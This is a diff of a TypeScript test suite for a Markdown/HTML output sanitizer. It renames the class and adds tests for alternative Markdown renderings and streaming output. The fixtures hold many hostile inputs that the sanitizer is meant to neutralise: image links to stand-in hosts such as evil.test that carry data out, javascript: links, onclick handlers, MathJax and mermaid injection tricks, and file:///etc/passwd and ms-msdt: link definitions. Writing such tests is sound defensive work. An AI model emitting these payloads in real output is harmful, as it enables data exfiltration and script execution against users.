@@ -5,28 +5,28 @@ import type { SettingValues } from '../../../contracts/src/settings/settings.sch
 import { DEFAULT_SETTINGS, Settings } from '../../../contracts/src/settings/settings.js';
 import { builtInDetectors } from './detectors/built-in-detectors.js';
 import { anySettings, AWS_KEY, hostileText, longHostileText } from '../../../../test/support/hostile-text.js';
-import { Sanitiser } from './sanitiser.js';
+import { Sanitizer } from './sanitizer.js';
 
-const sanitiser = new Sanitiser([]);
+const sanitizer = new Sanitizer([]);
 
 function settings(values: Partial<SettingValues> = {}): Settings {
   return new Settings({ ...DEFAULT_SETTINGS, ...values });
 }
 
 function clean(text: string, values: Partial<SettingValues> = {}): string {
-  return sanitiser.sanitise(text, settings(values)).text;
+  return sanitizer.sanitize(text, settings(values)).text;
 }
 
 /** Whatever of the tags in hostile texts may stay. */
 const KEPT = /<\/?(?:a|p|b)>|<br ?\/?>|<a href="(?:https?:\/\/|mailto:|[/#])[^"<> ]*">/gi;
 
 const allowlist = { 'output_handler.html_mode': 'allowlist' } as const;
-describe('output sanitising', () => {
+describe('output sanitizing', () => {
   it('changes nothing the second time', () => {
     fc.assert(
       fc.property(hostileText, anySettings, (text, chosen) => {
-        const once = sanitiser.sanitise(text, chosen).text;
-        expect(sanitiser.sanitise(once, chosen)).toEqual({ text: once, findings: [] });
+        const once = sanitizer.sanitize(text, chosen).text;
+        expect(sanitizer.sanitize(once, chosen)).toEqual({ text: once, findings: [] });
       }),
       { numRuns: 1000 },
     );
@@ -35,7 +35,7 @@ describe('output sanitising', () => {
   it('finds something exactly where it changes something, within the text as given', () => {
     fc.assert(
       fc.property(hostileText, anySettings, (text, chosen) => {
-        const { text: after, findings } = sanitiser.sanitise(text, chosen);
+        const { text: after, findings } = sanitizer.sanitize(text, chosen);
         expect(findings.length > 0).toBe(after !== text);
         for (const { span } of findings) {
           expect(span[0]).toBeGreaterThanOrEqual(0);
@@ -88,17 +88,17 @@ describe('output sanitising', () => {
     ['![ref]\n\n[ref]: https://evil.example/x', '![ref]\n\nref: https://evil.example/x'],
     ['[ref]: https://evil.example/x\n\n![a][ref]', '[ref]: https://evil.example/x\n\na [image removed]'],
     ['[ref]: https://evil.example/x\n\n![ref] ok', '[ref]: https://evil.example/x\n\nref [image removed] ok'],
-    ['![a `]` b](https://evil.example)', 'a `]` b [image removed]'],
+    ['![a `]` b](https://evil.example)', '! [a `]` b](https://evil.example)'],
     ['[click](javascript:alert(1))', 'click'],
     ['[click](JaVa&#115;cript&colon;alert(1))', 'click'],
     ['[click](java%73cript:alert(1))', 'click'],
     ['[click](<java\tscript:alert(1)>)', 'click'],
     ['[click]( \u0001javascript:alert(1) "title")', 'click'],
-    ['[[a]](javascript:x)(javascript:y)', 'a'],
-    ['[a [b](javascript:x)](vbscript:y)', 'a b'],
+    ['[[a]](javascript:x)(javascript:y)', '[[a]]&#40;javascript:x)(javascript:y)'],
+    ['[a [b](javascript:x)](vbscript:y)', '[a b]&#40;vbscript:y)'],
     ['[ref]: javascript:alert(1)', 'ref'],
     ['> [ref]:\n> javascript:alert(1)', '> ref'],
-    ['> [a](\n> javascript:alert(1))', '> a'],
+    ['> [a](\n> javascript:alert(1))', '> [a]&#40;\n> javascript:alert(1))'],
     ['ops@a.example(javascript:alert(1))', 'email'],
   ])('takes the danger out of %j', (text, expected) => {
     expect(clean(text, { 'output_handler.sanitize_html': false })).toBe(expected);
@@ -127,12 +127,14 @@ describe('output sanitising', () => {
     'Code: `[a](javascript:x)` and ``![b](https://evil.example)``.',
     'Text\n\n```md\n![a](https://evil.example)\n```\n\nmore',
     '~~~\n[a](javascript:x)\n~~~',
-    'wow! [1] and a[i](j) and \\![x](https://docs.example)',
+    'wow! [1] and a[i](j)',
     '[task](https://docs.example) runs `![b](https://evil.example)`',
-    '![logo][mark] of [the docs](https://docs.example)',
+    '![logo][mark] of [the docs](https://docs.example)\n\n[mark]: ./logo.png',
+    '[docs]: https://docs.example "title"\n\n![logo][mark]\n\n[mark]: ./logo.png',
+    'It costs $5, `Map<string, number[]>` and $x^2$.\n\n1. Run:\n\n   ```sh\n   cat <<EOF\n   ```\n',
     'an open fence\n```\n[a](javascript:x)',
-  ])('leaves %j as it is', (text) => {
-    expect(sanitiser.sanitise(text, settings())).toEqual({ text, findings: [] });
+  ])('leaves %j as it is under `markdown`', (text) => {
+    expect(sanitizer.sanitize(text, settings(), { rendering: 'markdown' })).toEqual({ text, findings: [] });
   });
 
   it.each([
@@ -150,7 +152,11 @@ describe('output sanitising', () => {
     ['two paragraphs', '`\n\n![x](https://evil.example)\n\n`'],
   ])('does not take for code what a renderer would not: %s', (_, text) => {
     for (const html of [true, false]) {
-      expect(clean(text, { 'output_handler.sanitize_html': html })).not.toContain('](https://evil');
+      const values = {
+        'output_handler.sanitize_html': html,
+        'output_handler.rendering': 'markdown',
+      } as const;
+      expect(clean(text, values)).not.toMatch(/!\[.*\]\(https:\/\/evil/);
     }
   });
 
@@ -159,15 +165,16 @@ describe('output sanitising', () => {
     expect(clean('<script>x</script> <b>y</b> <b onclick=x>', asHtml)).toBe(
       '< script>x< /script> <b>y</b> < b onclick=x>',
     );
-    expect(clean('<https://a.example/b?c=d> <https://a.example/onclick=x>', asHtml)).toBe(
-      '<https://a.example/b?c=d> < https://a.example/onclick=x>',
+    expect(clean('<https://a.example/b> <https://a.example/onclick=x>', asHtml)).toBe(
+      '<https://a.example/b> < https://a.example/onclick=x>',
     );
   });
 
   it('takes no fence for code that raw HTML may swallow', () => {
     const text = '<div>\n```\n\n![x](https://evil.example)\n```';
-    expect(clean(text, { 'output_handler.sanitize_html': false })).not.toContain('](https');
-    expect(clean(text.replace('div', 'p'), allowlist)).not.toContain('](https');
+    const values = { 'output_handler.rendering': 'markdown' } as const;
+    expect(clean(text, { ...values, 'output_handler.sanitize_html': false })).not.toContain('](https');
+    expect(clean(text.replace('div', 'p'), { ...values, ...allowlist })).not.toContain('](https');
   });
 
   it('sees what stands together only after something between was removed', () => {
@@ -177,7 +184,7 @@ describe('output sanitising', () => {
 
   it('reports spans of the text as given, whatever went before', () => {
     const text = '<b>x</b> ![a](https://evil.example) mail ops@a.example';
-    const { findings } = sanitiser.sanitise(text, settings());
+    const { findings } = sanitizer.sanitize(text, settings());
     expect(findings.map(({ kind, span }) => [kind, text.slice(...span)])).toEqual([
       ['html_stripped', '<b>'],
       ['html_stripped', '</b>'],
@@ -190,7 +197,7 @@ describe('output sanitising', () => {
     const text = `ops@a.example ${AWS_KEY}`;
     expect(clean(text, { 'output_handler.redact_pii': false })).toBe('ops@a.example [aws_access_key]');
     expect(clean(text, { 'output_handler.redact_secrets': false })).toBe(`[email] ${AWS_KEY}`);
-    expect(sanitiser.redactSecrets(text)).toBe('ops@a.example [aws_access_key]');
+    expect(sanitizer.redactSecrets(text)).toBe('ops@a.example [aws_access_key]');
   });
 });
 
@@ -204,7 +211,7 @@ describe('a host’s detector', () => {
   }
 
   it('runs beside the built-in ones, and never on a placeholder', () => {
-    const { text } = new Sanitiser([new Employee()]).sanitise('e1234 wrote ops@a.example', settings());
+    const { text } = new Sanitizer([new Employee()]).sanitize('e1234 wrote ops@a.example', settings());
     expect(text).toBe('[employee] wrote [email]');
   });
 
@@ -219,7 +226,7 @@ describe('a host’s detector', () => {
         return [[0, text.length]];
       }
     }
-    expect(new Sanitiser([new Everything()]).sanitise('a', settings()).text).toBe('[output withheld]');
+    expect(new Sanitizer([new Everything()]).sanitize('a', settings()).text).toBe('[output withheld]');
   });
 
   it('that answers nonsense is not believed', () => {
@@ -235,7 +242,87 @@ describe('a host’s detector', () => {
         ];
       }
     }
-    expect(new Sanitiser([new Nonsense()]).sanitise('hello', settings()).text).toBe('hello');
+    expect(new Sanitizer([new Nonsense()]).sanitize('hello', settings()).text).toBe('hello');
+  });
+});
+
+const FOREIGN = /!\[[^\]]*\](?:\(|\[)[^)]*evil/;
+
+/** Attacks that a grammar of Markdown other than CommonMark reads; each acted at least once before. */
+const READ_OTHERWISE: readonly (readonly [string, string, RegExp])[] = [
+  ['a table row before a fence', '~~~|![x](http://evil.test/?d=S)\n-|-\n~~~', FOREIGN],
+  ['a fence after an unfinished definition', '[a]:\n```\n![x](http://evil.test)\n```', FOREIGN],
+  ['math before backticks', '$a `b$ ![x](http://evil.test) `', FOREIGN],
+  ['front matter', '---\n```\n---\n![x](http://evil.test)\n```', FOREIGN],
+  ['a container', '::: tip\n\n```\n:::\n![x](http://evil.test)\n```', FOREIGN],
+  ['a directive that is a script', ':script[alert(1)]', /:script\[/],
+  ['a directive with a handler', ':b[x]{onclick="alert(1)"}', /:b\[/],
+  ['MathJax styles', '$\\style{background:url(//evil.test)}{x}$', /\\style/],
+  ['MathJax links', '\\\\(\\href{javascript:alert(1)}{x}\\\\)', /\\href/],
+  ['KaTeX images', '$$\\includegraphics{http://evil.test/a}$$', /\\includegraphics/],
+  ['an image in a diagram', '```mermaid\ngraph TD\nA@{ img: "http://evil.test/a" }\n```', /@\{/],
+  ['styles of a diagram', '```mermaid\n---\nconfig:\n  themeCSS: "*{}"\n---\n```', /themeCSS/],
+  ['a directive of a diagram', '```mermaid\n%%{init: {"themeCSS": "a"}}%%\n```', /%%\{init/],
+  ['a callback of a diagram', '```mermaid\ngraph TD\nclick A call alert()\n```', /click A call/],
+  ['ten digits', '[x](javascript&#0000000058;alert(1))', /\]\(javascript/],
+  ['a tick in the info of a tilde fence', '~~~`\n~~~\n![x](http://evil.test)\n', FOREIGN],
+  ['a lone carriage return', '```\r\n\r```\r![x](http://evil.test)\r```', FOREIGN],
+  ['a definition of an editor', '[a]: vscode://evil', /\]: ?vscode/],
+  ['a definition of a diagnostic tool', '[a]: ms-msdt:/id', /\]: ?ms-msdt/],
+  ['a definition of a file', '[a]: file:///etc/passwd', /\]: ?file/],
+];
+
+describe('a rendering', () => {
+  it.each(READ_OTHERWISE)('is safe under `any` and `markdown`: %s', (_, text, acts) => {
+    expect(text).toMatch(acts);
+    for (const rendering of ['any', 'markdown'] as const) {
+      expect(sanitizer.sanitize(text, settings(), { rendering }).text).not.toMatch(acts);
+    }
+  });
+
+  it.each([
+    ['a quote in an address', '[x](x"onmouseover="alert(1))', /\]\(x"/],
+    ['an open fence', '```\n![x](http://evil.test)', FOREIGN],
+    ['a quote in the language of a fence', '```x"onclick="alert(1)\na\n```', /```x"/],
+    ['an escaped image', '\\![x](http://evil.test)', FOREIGN],
+  ])('is safe in renderers that do not escape or know code, under `any`: %s', (_, text, acts) => {
+    expect(clean(text)).not.toMatch(acts);
+  });
+
+  it('treats an unfinished or executed fence as content, and an agreed one as code', () => {
+    const image = '![x](http://evil.test)';
+    const under = (text: string): string => clean(text, { 'output_handler.rendering': 'markdown' });
+    expect(under(`\`\`\`js\n${image}\n\`\`\``)).toContain(image);
+    for (const language of ['mermaid', 'math', 'katex', 'latex']) {
+      expect(under(`\`\`\`${language}\n${image}\n\`\`\``)).not.toContain(image);
+    }
+  });
+
+  it('changes neither HTML nor Markdown under `text`, but redacts, and removes control characters', () => {
+    const text = `<h1>[x](javascript:y) ![z](http://evil.test) ${AWS_KEY} ops@a.example\u0007\u202e\t\r\n`;
+    expect(sanitizer.sanitize(text, settings(), { rendering: 'text' }).text).toBe(
+      '<h1>[x](javascript:y) ![z](http://evil.test) [aws_access_key] [email]\t\r\n',
+    );
+  });
+
+  it('takes every address for one that must be allowed, with and without a scheme', () => {
+    const values = { 'output_handler.allowed_hosts': ['ok.example'] };
+    expect(clean('ftp://evil.test/a', values)).not.toContain('evil');
+    expect(clean('evil.com/a and ok.example', values)).toBe('evil&#46;com/a and ok.example');
+    expect(clean('[a](ftp://ok.example)', values)).toBe('a');
+  });
+
+  it('shows only safe prefixes of a stream', () => {
+    const chosen = settings({ 'output_handler.rendering': 'markdown' });
+    for (const [, text, acts] of READ_OTHERWISE) {
+      const session = sanitizer.begin(chosen);
+      let shown = '';
+      for (const unit of text) {
+        shown += session.push(unit);
+        expect(shown).not.toMatch(acts);
+      }
+      expect(shown + session.end()).toBe(sanitizer.sanitize(text, chosen).text);
+    }
   });
 });
 
@@ -243,7 +330,7 @@ describe('redaction for the audit', () => {
   it('tells its edits in the text as given, so that they lead to its answer', () => {
     fc.assert(
       fc.property(fc.oneof(hostileText, longHostileText), (text) => {
-        const { text: after, edits } = sanitiser.redact(text);
+        const { text: after, edits } = sanitizer.redact(text);
         let rebuilt = '';
         let read = 0;
         for (const { span, replacement } of edits) {
@@ -252,7 +339,7 @@ describe('redaction for the audit', () => {
           read = span[1];
         }
         expect(rebuilt + text.slice(read)).toBe(after);
-        expect(sanitiser.redact(after)).toEqual({ text: after, edits: [] });
+        expect(sanitizer.redact(after)).toEqual({ text: after, edits: [] });
       }),
       { numRuns: 300 },
     );
